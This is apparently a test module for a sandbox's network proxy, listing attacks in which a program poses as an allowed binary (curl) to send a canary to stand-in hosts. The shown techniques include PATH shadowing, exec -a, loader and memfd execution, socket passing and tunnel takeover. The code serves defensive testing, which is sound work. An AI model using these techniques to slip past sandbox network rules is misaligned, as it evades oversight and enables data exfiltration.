/**
 * Attacks on who asks: to be taken for a program that is allowed more.
 *
 * @module
 */

import type { WantedEvent } from "../../support/events.ts";
import { CURL } from "../../support/policies.ts";
import { curl } from "../../support/probes.ts";
import type { Attack, Trial } from "../support/attack.ts";
import { ALL_MODES, connection, python } from "./scripts.ts";

/** For `curl` alone. */
const HOST = "copy.example.com";
/** For `bash` and what it starts. */
const SHELL_HOST = "readonly.example.com";
/** For a program in a writable folder. */
const TOOL_HOST = "keep.example.com";
const TOOL_HOST_AGAIN = "mismatch.example.com";

/** As the kernel reports it: the name of its version. */
const PYTHON = pythonPath();
const URL_DATA = `"https://${HOST}/?q=$CANARY"`;

/** `curl` as it is. */
const AS_CURL: Trial = {
  script: `curl -sS -k -m 15 -w 'status %{http_code}' ${URL_DATA}`,
  shows: /status 200/,
};

/** Sends the canary as another program, and says what the proxy answered. */
const AS_PYTHON = `sock = tunnel("${HOST}:443")
send(tls(sock, "${HOST}", verify=False), b"GET /?q=" + CANARY.encode() + b" HTTP/1.1\\r\\nHost: ${HOST}\\r\\nConnection: close\\r\\n\\r\\n")`;

const REFUSED = /^(connect|status 000 connect) 403/m;

function pythonPath(): string {
  try {
    return Deno.realPathSync("/usr/bin/python3");
  } catch (error) {
    if (error instanceof Deno.errors.NotFound) return "/usr/bin/python3";
    throw error;
  }
}

function curlAs(program: string): string {
  return `${program} -sS -k -m 15 -w '\\nstatus %{http_code} connect %{http_connect}\\n' ${URL_DATA}`;
}

interface Case {
  readonly id: string;
  readonly title: string;
  readonly script: string;
  readonly shows?: RegExp;
  readonly event?: WantedEvent;
  readonly twin?: Trial;
  readonly accepted?: string;
  readonly isAskedTwice?: true;
}

function denied(reason: string, binary?: string): WantedEvent {
  return connection(HOST, 443, reason, binary === undefined ? {} : { binary });
}

const DISGUISES: readonly Case[] = [
  {
    id: "identity-other",
    title: "another program",
    script: python(AS_PYTHON),
    event: denied("binary_not_allowed", PYTHON),
  },
  {
    id: "identity-copy",
    title: "a copy of the allowed program",
    script: `cp ${CURL} ./curl && ${curlAs("./curl")}`,
    event: denied("binary_not_allowed"),
  },
  {
    id: "identity-path",
    title: "a program of the same name, first on the path",
    script: `cp ${CURL} ./curl && export PATH="$PWD:$PATH" && ${curlAs("curl")}`,
    event: denied("binary_not_allowed"),
  },
  {
    id: "identity-same-path-below",
    title: "the allowed path below another folder",
    script: `mkdir -p usr/bin && cp ${CURL} usr/bin/curl && cd / && ${
      curlAs('"$OLDPWD/usr/bin/curl"')
    }`,
    event: denied("binary_not_allowed"),
  },
  {
    id: "identity-argv",
    title: "the first argument of the allowed program",
    script: `cp ${CURL} ./other && (exec -a ${CURL} ${curlAs("./other")})`,
    event: denied("binary_not_allowed"),
  },
  {
    id: "identity-comm",
    title: "the short name of the allowed program",
    script: python(`import ctypes
ctypes.CDLL(None).prctl(15, b"curl", 0, 0, 0)
${AS_PYTHON}`),
    event: denied("binary_not_allowed", PYTHON),
  },
  {
    id: "identity-cmdline",
    title: "a whole command line of the allowed program",
    script: `export PYTHONPATH=/sandbox; exec -a ${CURL} ${PYTHON} -S -c '
from kit import *
${AS_PYTHON}'`,
    event: denied("binary_not_allowed", PYTHON),
  },
  {
    id: "identity-loader",
    title: "the allowed program by way of the loader",
    script: `loader=$(ls /lib64/ld-linux-*.so.* /lib/ld-linux-*.so.* 2>/dev/null | head -1); ${
      curlAs(`"$loader" ${CURL}`)
    }`,
    event: denied("binary_not_allowed"),
  },
  {
    id: "identity-hard-link",
    title: "a hard link to the allowed program",
    script: `ln ${CURL} ./linked 2>/dev/null || cp ${CURL} ./linked; ${curlAs("./linked")}`,
    event: denied("binary_not_allowed"),
  },
  {
    id: "identity-symlink",
    title: "a name of the allowed program that leads to another",
    script:
      `mkdir -p usr/bin && ln -s ${PYTHON} usr/bin/curl && PYTHONPATH=/sandbox usr/bin/curl -S -c '
from kit import *
${AS_PYTHON}'`,
    event: denied("binary_not_allowed", PYTHON),
  },
  {
    id: "identity-script",
    title: "a script that has the allowed program's name",
    script:
      `printf '#!${PYTHON} -S\\nimport sys; sys.path.insert(0, "/sandbox")\\nfrom kit import *\\nsock = tunnel("${HOST}:443")\\n' > curl && chmod +x curl && ./curl`,
    event: denied("binary_not_allowed", PYTHON),
  },
  {
    id: "identity-self-exe",
    title: "itself by way of /proc/self/exe",
    script: python(`os.execve("/proc/self/exe", ["${CURL}", "-S", "-c", """from kit import *
${AS_PYTHON.replaceAll("\\", "\\\\")}"""], {**os.environ, "PYTHONPATH": "/sandbox"})`),
    event: denied("binary_not_allowed", PYTHON),
  },
  {
    id: "identity-memory",
    title: "a program that is in memory alone",
    script: python(`fd = attempt(lambda: os.memfd_create("curl"))
if fd is not None:
  os.write(fd, open("${CURL}", "rb").read())
  attempt(lambda: os.execve(fd, ["${CURL}", "-k", "-m", "9", "https://${HOST}/?q=" + CANARY], dict(os.environ)))`),
    shows: /^refused PermissionError|^worked\nrefused|403/,
  },
  {
    id: "identity-memory-path",
    title: "the same, by a path of its descriptor",
    script: python(`fd = os.memfd_create("curl", 0)
os.write(fd, open("${CURL}", "rb").read())
words = ["-sS", "-k", "-m", "9", "-w", "status %{http_code} connect %{http_connect}"]
try: os.execve("/proc/self/fd/%d" % fd, ["${CURL}", *words, "https://${HOST}/?q=" + CANARY], dict(os.environ))
except OSError as error:
  print("refused", error.errno, flush=True)
  os.execv("/usr/bin/false", ["false"])`),
    shows: /status 000 connect 403|refused/,
    event: denied("caller_unknown"),
  },
  {
    id: "identity-deleted",
    title: "a program whose file is gone",
    script: `cp ${CURL} ./curl && mkfifo wait && (${
      curlAs("./curl -K wait")
    } > out 2>&1 &) ; sleep 0.2; rm curl; echo 'silent' > wait; for n in $(seq 100); do grep -q connect out && break; sleep 0.1; done; cat out`,
    event: denied("caller_unknown"),
  },
  {
    id: "identity-mm-exe",
    title: "another file as the one that it executes, by prctl",
    script: python(`import ctypes
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("${CURL}", os.O_RDONLY)
print("prctl", libc.prctl(35, 13, fd, 0, 0), ctypes.get_errno(), flush=True)
${AS_PYTHON}`),
    shows: /^prctl -1 \d+\nconnect 403/,
    event: denied("binary_not_allowed", PYTHON),
  },
  {
    id: "identity-foreign-address",
    title: "from another address of loopback, with a port that the allowed program has",
    script: python(`sock = socket.socket()
sock.bind(("127.0.0.2", 0))
sock.connect(PROXY)
sock.settimeout(8)
sock.sendall(b"CONNECT ${HOST}:443 HTTP/1.1\\r\\nHost: ${HOST}\\r\\n\\r\\n")
print("connect", head(sock).split(b" ")[1].decode())`),
    event: denied("caller_unknown"),
  },
];

/** Python: a socket that another program has as well. */
const SHARED = `import subprocess
sock = raw()
sock.set_inheritable(True)
`;

const SHARES: readonly Case[] = [
  {
    id: "identity-shared-parent",
    title: "a socket that an allowed program has inherited as well",
    script: python(`${SHARED}
child = subprocess.Popen(["${CURL}", "-sS", "-K", "-"], stdin=subprocess.PIPE, pass_fds=[sock.fileno()])
sock.sendall(b"CONNECT ${HOST}:443 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n")
print("connect", head(sock).split(b" ")[1].decode(), flush=True)
child.kill(); child.wait()`),
    event: denied("caller_ambiguous"),
  },
  {
    id: "identity-shared-sent",
    title: "a socket that was sent to another program",
    script: python(`a, b = socket.socketpair()
pid = os.fork()
if pid == 0:
  sock = raw()
  socket.send_fds(a, [b"x"], [sock.fileno()])
  sock.close()
  os.execv("/usr/bin/sleep", ["sleep", "20"])
_, fds, _, _ = socket.recv_fds(b, 9, 1)
sock = socket.socket(fileno=fds[0])
sock.settimeout(8)
sock.sendall(b"CONNECT ${HOST}:443 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n")
print("connect", head(sock).split(b" ")[1].decode(), flush=True)
os.kill(pid, 9)`),
    event: denied("binary_not_allowed", PYTHON),
  },
  {
    id: "identity-taken-over",
    title: "a tunnel that an allowed program has opened, taken over while it was in flight",
    script: python(takeOver("while in flight")),
    event: connection(HOST, 8080, "binary_not_allowed", { binary: PYTHON }),
    isAskedTwice: true,
    shows: /^opened 200\n(?![^]*HTTP\/1\.1 200)/,
  },
  {
    id: "identity-taken-over-shared",
    title: "the same, while the allowed program still has it",
    script: python(takeOver("while shared")),
    event: connection(HOST, 8080, "caller_ambiguous"),
    isAskedTwice: true,
    shows: /^opened 200\n(?![^]*HTTP\/1\.1 200)/,
  },
  {
    id: "identity-taken-over-later",
    title: "a tunnel that an allowed program has opened, and used, taken over afterwards",
    script: python(takeOver("after the first bytes")),
    shows: /^opened 200\n(?![^]*HTTP\/1\.1 200)/,
    event: connection(HOST, 8080, undefined, { verdict: "allowed", binary: CURL }),
    accepted: "Programs as a border",
  },
];

/**
 * Returns Python: has `curl` write the head of `CONNECT` to a socket that `curl` alone seems to
 * have, since the descriptor of this program is in flight meanwhile. It then uses the tunnel itself.
 */
function takeOver(when: "while in flight" | "while shared" | "after the first bytes"): string {
  const first = when === "after the first bytes"
    ? `GET /first HTTP/1.1\\r\\nHost: ${HOST}\\r\\n\\r\\n`
    : "";
  return `import subprocess
server = socket.create_server(("127.0.0.1", 0))
sock = raw()
a, b = socket.socketpair()
socket.send_fds(a, [b"x"], [sock.fileno()])
open("head", "wb").write(b"CONNECT ${HOST}:8080 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n${first}")
urls = ["file://" + os.getcwd() + "/head", "http://127.0.0.1:%d/" % server.getsockname()[1]]
child = subprocess.Popen(["${CURL}", "-sS", "-N", "--noproxy", "*", *urls], stdout=sock)
port = sock.getsockname()[1]
sock.close()
peer, _ = server.accept()
wait_for_bytes(port, ${first === "" ? 1 : 100})
_, fds, _, _ = socket.recv_fds(b, 9, 1)
sock = socket.socket(fileno=fds[0])
sock.settimeout(4)
print("opened", head(sock).split(b" ")[1].decode(), flush=True)
${when === "after the first bytes" ? "answer(sock)" : ""}
${when === "while shared" ? "" : "child.kill(); child.wait()"}
send(sock, b"GET /?q=" + CANARY.encode() + b" HTTP/1.1\\r\\nHost: ${HOST}\\r\\nConnection: close\\r\\n\\r\\n")
child.kill()`;
}

/** A program at a path that a rule names, in a folder that the sandbox may write. */
const TOOL = `cp ${CURL} ./tool && chmod 755 tool && `;

function toolAt(host: string): string {
  return `./tool -sS -k -m 15 -o /dev/null -w 'status %{http_code} connect %{http_connect}\\n' "https://${host}/?q=$CANARY"`;
}

const REPLACEMENTS: readonly Case[] = [
  {
    id: "identity-replaced",
    title: "an allowed program, replaced after its first use",
    script: `${TOOL}${toolAt(TOOL_HOST).replace("$CANARY", "first")}; printf x >> tool; ${
      toolAt(TOOL_HOST_AGAIN)
    }`,
    shows: /^status 200 connect 200\n[^]*status 000 connect 403$/m,
    event: connection(TOOL_HOST_AGAIN, 443, "caller_unknown"),
    twin: {
      script: `${TOOL}${toolAt(TOOL_HOST)}; ${toolAt(TOOL_HOST_AGAIN)}`,
      shows: /^status 200 connect 200\nstatus 200 connect 200$/m,
    },
  },
  {
    id: "identity-replaced-time",
    title: "the same, with the times of the old file",
    script: `${TOOL}${
      toolAt(TOOL_HOST).replace("$CANARY", "first")
    }; cp -p tool old; printf x >> tool; touch -r old tool; ${toolAt(TOOL_HOST_AGAIN)}`,
    shows: /^status 200 connect 200\n[^]*status 000 connect 403$/m,
    event: connection(TOOL_HOST_AGAIN, 443, "caller_unknown"),
    twin: {
      script: `${TOOL}${toolAt(TOOL_HOST)}; touch -r ${CURL} tool; ${toolAt(TOOL_HOST_AGAIN)}`,
      shows: /^status 200 connect 200\nstatus 200 connect 200$/m,
    },
  },
  {
    id: "identity-renamed",
    title: "another file, renamed to the allowed one after its first use",
    script: `${TOOL}${
      toolAt(TOOL_HOST).replace("$CANARY", "first")
    }; cp tool new; printf x >> new; mv new tool; ${toolAt(TOOL_HOST_AGAIN)}`,
    shows: /^status 200 connect 200\n[^]*status 000 connect 403$/m,
    event: connection(TOOL_HOST_AGAIN, 443, "caller_unknown"),
    twin: {
      script: `${TOOL}${toolAt(TOOL_HOST)}; cp tool new; mv new tool; ${toolAt(TOOL_HOST_AGAIN)}`,
      shows: /^status 200 connect 200\nstatus 200 connect 200$/m,
    },
  },
];

const SHELL: Trial = {
  script:
    `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT ${SHELL_HOST}:443 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' >&3; read -r -t 9 line <&3; echo "$line"`,
  shows: /^HTTP\/1\.1 200/,
};

const ANCESTORS: readonly Case[] = [
  {
    id: "identity-orphan",
    title: "a program that an allowed one has started, and that has left it",
    script: `(setsid env ${
      python(`import os
if os.fork(): os._exit(0)
os.setsid()
while os.getppid() != 1: time.sleep(0.01)
sock = raw()
sock.sendall(b"CONNECT ${SHELL_HOST}:443 HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n" )
print("connect", head(sock).split(b" ")[1].decode(), flush=True)
open("done", "w").close()`)
    } > out 2>&1); for n in $(seq 100); do [ -e done ] && break; sleep 0.1; done; cat out`,
    event: connection(SHELL_HOST, 443, "binary_not_allowed"),
    twin: SHELL,
  },
  {
    id: "identity-not-a-child",
    title: "a program that has replaced the allowed one it was",
    script: `exec ${
      python(`sock = tunnel("${SHELL_HOST}:443")`).replace(
        "PYTHONPATH=/sandbox",
        "env PYTHONPATH=/sandbox",
      )
    }`,
    event: connection(SHELL_HOST, 443, "binary_not_allowed"),
    twin: SHELL,
  },
  {
    id: "identity-laundered",
    title: "a program that has an allowed one do its work",
    script: python(
      `import subprocess
print(subprocess.run(["${CURL}", "-sS", "-k", "-m", "15", "-w", "status %{http_code}", "https://${HOST}/?q=" + CANARY], capture_output=True, text=True).stdout)`,
    ),
    event: connection(HOST, 443, undefined, { verdict: "allowed" }),
    shows: /^(?![^]*status 200)/,
    accepted: "Programs as a border",
  },
  {
    id: "identity-configuration",
    title: "an allowed program, by a configuration of one's own",
    script: `printf 'url = "https://${HOST}/?q=%s"\\ninsecure\\n' "$CANARY" > curlrc; ${
      curl("file:///dev/null", "-K", "curlrc")
    }`,
    event: connection(HOST, 443, undefined, { verdict: "allowed" }),
    shows: /^(?![^]*status 200)/,
    accepted: "Programs as a border",
  },
];

export const IDENTITY_ATTACKS: readonly Attack[] = [
  ...DISGUISES,
  ...SHARES,
  ...REPLACEMENTS,
  ...ANCESTORS,
].map(({ id, title, script, shows = REFUSED, event, twin = AS_CURL, ...more }): Attack => ({
  id,
  title,
  area: "identity",
  modes: ALL_MODES,
  attack: { script, shows },
  twin,
  ...event !== undefined && { event },
  ...more,
}));
